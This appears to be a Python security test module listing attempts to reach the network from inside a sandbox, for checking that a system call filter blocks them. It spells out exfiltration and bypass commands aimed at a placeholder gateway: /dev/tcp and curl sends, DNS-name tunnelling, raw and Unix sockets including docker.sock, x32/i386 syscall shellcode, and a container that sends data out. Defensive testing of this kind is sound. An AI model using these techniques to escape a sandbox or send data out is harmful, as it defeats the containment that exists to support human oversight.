"""Reaching the network: only towards listeners that the test itself has opened."""

from tests.security.attack import Attack

_FILTER = ("system call filter",)

ATTACKS = (
    Attack(
        "tcp-by-bash",
        "opens a TCP connection with bash alone",
        """(echo @ID@ > /dev/tcp/@GATEWAY@/@TCP@) && breach""",
        _FILTER,
        evidence="/dev/tcp/@GATEWAY@|ermitted|denied|not supported",
    ),
    Attack(
        "tcp-by-curl",
        "fetches and posts with curl, through a proxy and by several protocols",
        """curl --silent --show-error --max-time 5 http://@GATEWAY@:@TCP@/@ID@ && breach get
        curl -sS --max-time 5 -x http://@GATEWAY@:@TCP@ http://example.com/@ID@ && breach proxy
        curl -sS --max-time 5 -d @README.md telnet://@GATEWAY@:@TCP@/@ID@ && breach telnet
        curl -sS --max-time 5 tftp://@GATEWAY@:@UDP@/@ID@ && breach tftp""",
        _FILTER,
        evidence=r"curl: \(\d+\)",
    ),
    Attack(
        "tcp-by-python",
        "opens TCP connections from Python: blocking, not blocking, by its own system calls",
        """
import ctypes, socket
def send():
    socket.create_connection(('@GATEWAY@', @TCP@), 5).sendall(b'@ID@')
fails(send)
libc = ctypes.CDLL(None, use_errno=True)
for family in (2, 10):
    for kind in (1, 2, 3, 5, 1 | 0o4000 | 0o2000000):
        libc.socket(family, kind, 0) == -1 or breach(family, kind)
        libc.syscall(41, family, kind, 0) == -1 or breach('syscall', family, kind)
""",
        _FILTER,
        language="python",
        evidence="refused: ",
    ),
    Attack(
        "tcp-by-node",
        "opens a TCP connection and a WebSocket-like request from Node.js",
        """
const net = require('net'), http = require('http');
const socket = net.connect(@TCP@, '@GATEWAY@', () => { breach('tcp'); socket.end('@ID@'); });
socket.on('error', (error) => console.log('refused:', error.code));
http.get('http://@GATEWAY@:@TCP@/@ID@', () => breach('http'))
    .on('error', (error) => console.log('refused:', error.code));
""",
        _FILTER,
        language="javascript",
        evidence="refused: E(PERM|ACCES|AFNOSUPPORT)",
    ),
    Attack(
        "udp",
        "sends datagrams, from Python, bash and Node.js",
        """(echo @ID@ > /dev/udp/@GATEWAY@/@UDP@) && breach bash
        python3 -c 'import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@ID@", ("@GATEWAY@", @UDP@))' &&
            breach python
        node -e 'const s = require("dgram").createSocket("udp4"); s.on("error", (e) => {
            console.log(e.code); process.exit(1); });
            s.send("@ID@", @UDP@, "@GATEWAY@", (e) => process.exit(e ? 1 : 0));' && breach node""",
        _FILTER,
        evidence="ermitted|denied|not supported|EPERM|EACCES",
    ),
    Attack(
        "dns",
        "carries words out in the names that it asks for",
        """getent hosts @ID@.exfiltration.example.com && breach getent
        python3 -c 'import socket
query = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4@ID@\\0\\0\\1\\0\\1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("@GATEWAY@", @UDP@))' && breach dns
        python3 -c 'import socket; socket.getaddrinfo("@ID@.example.com", 80)'""",
        _FILTER,
        evidence="ermitted|denied|name resolution|Name or service",
    ),
    Attack(
        "ipv6",
        "uses IPv6: mapped addresses, the loopback, all nodes",
        """
import socket
def connect(address, kind=socket.SOCK_STREAM):
    made = socket.socket(socket.AF_INET6, kind)
    made.settimeout(5)
    made.connect((address, @TCP@, 0, 1))
    made.sendall(b'@ID@')
for address in ('::ffff:@GATEWAY@', '::1', 'ff02::1'):
    fails(connect, address)
    fails(connect, address, socket.SOCK_DGRAM)
""",
        _FILTER,
        language="python",
        evidence="refused: ",
    ),
    Attack(
        "raw-sockets",
        "opens raw, packet, netlink, vsock, Bluetooth, crypto and other sockets",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for family in (*range(2, 46), 16, 17, 38, 40, 44):
    for kind in (1, 2, 3, 5):
        found = libc.socket(family, kind, 0)
        if found != -1:
            breach('family', family, 'kind', kind)
print('refused:', os.strerror(ctypes.get_errno()))
""",
        _FILTER,
        language="python",
        evidence="refused: (Operation not permitted|Permission denied|Address family)",
    ),
    Attack(
        "unix-sockets",
        "uses Unix sockets that are not the broker's: datagrams, abstract names, of root",
        """
import socket
for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    fails(socket.socket, socket.AF_UNIX, kind)
for name in ('/run/docker.sock', '/run/containerd/containerd.sock', '/dev/log',
             '\\0/containerd-shim/x', '\\0/tmp/.X11-unix/X0'):
    fails(socket.socket(socket.AF_UNIX).connect, name)
""",
        _FILTER,
        language="python",
        evidence="refused: (Operation not permitted|Permission denied)",
    ),
    Attack(
        "other-system-call-tables",
        "opens a socket by the 32-bit and x32 system calls, which have other numbers",
        """
import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
def x32():
    return libc.syscall(0x40000000 + 41, 2, 1, 0)
def i386():
    code = bytes.fromhex('53 b8 67010000 bb 02000000 b9 01000000 ba 00000000 cd80 5b c3')
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
for call in (x32, i386):
    child = os.fork()
    if child == 0:
        os._exit(1 if call() >= 0 else 0)
    status = os.waitpid(child, 0)[1]
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 1:
        breach(call.__name__)
    print(call.__name__, 'signal', os.WTERMSIG(status), flush=True)
""",
        _FILTER,
        language="python",
        # 31 is SIGSYS. A kernel without the 32-bit calls answers in its own way.
        evidence=r"x32 signal (31|0)\ni386 signal (31|11|0)",
    ),
    Attack(
        "git-and-pip",
        "lets git and Python's tools do the fetching",
        """timeout 20 git fetch http://@GATEWAY@:@TCP@/@ID@ main && breach git
        timeout 20 git ls-remote git://@GATEWAY@:@TCP@/@ID@ && breach git-protocol
        python3 -c 'import urllib.request
urllib.request.urlopen("http://@GATEWAY@:@TCP@/@ID@", timeout=5)' && breach urllib
        timeout 20 node -e 'fetch("http://@GATEWAY@:@TCP@/@ID@").then(() => process.exit(0),
            () => process.exit(1))' && breach fetch""",
        _FILTER,
        evidence="fatal: ",
    ),
    Attack(
        "listen",
        "opens a port for somebody outside",
        """
import socket
def listen(family, address):
    made = socket.socket(family)
    made.bind(address)
    made.listen()
fails(listen, socket.AF_INET, ('0.0.0.0', 0))
fails(listen, socket.AF_INET6, ('::', 0))
""",
        _FILTER,
        language="python",
        evidence="refused: ",
    ),
    Attack(
        "network-of-a-smoke-test",
        "sends from inside a container that it may start",
        """cd "$(mktemp -d -p .)"
        printf 'FROM @BASE@\\nCMD ["bash", "-c", "%s"]\\n' \\
            'echo @ID@ >/dev/tcp/@GATEWAY@/@TCP@ && echo rea''ched' > Dockerfile
        docker build -q -t @ID@:1 . && docker run --rm @ID@:1 2>&1 | tee out.txt
        grep -q reached out.txt && breach""",
        ("smoke test limits",),
        evidence="Network is unreachable",
    ),
)
